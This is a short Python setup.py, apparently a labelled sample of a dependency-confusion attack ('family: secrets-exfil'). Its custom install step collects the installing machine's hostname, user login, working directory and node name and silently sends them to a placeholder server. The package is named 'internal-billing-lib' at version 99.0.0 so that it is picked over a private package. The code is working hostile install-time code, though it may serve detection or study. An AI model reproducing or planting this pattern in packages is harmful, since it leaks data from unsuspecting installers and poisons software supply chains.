# family: secrets-exfil
# a setup.py whose install step reports the machine to a server (dependency confusion)
import os
import platform
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        info = {
            "p": "internal-billing-lib",
            "h": socket.gethostname(),
            "u": os.getlogin(),
            "d": os.getcwd(),
            "n": platform.node(),
        }
        try:
            urllib.request.urlopen("http://dc.example.invalid/?" + urllib.parse.urlencode(info), timeout=3)
        except Exception:
            pass
        install.run(self)


setup(name="internal-billing-lib", version="99.0.0", cmdclass={"install": PostInstall})
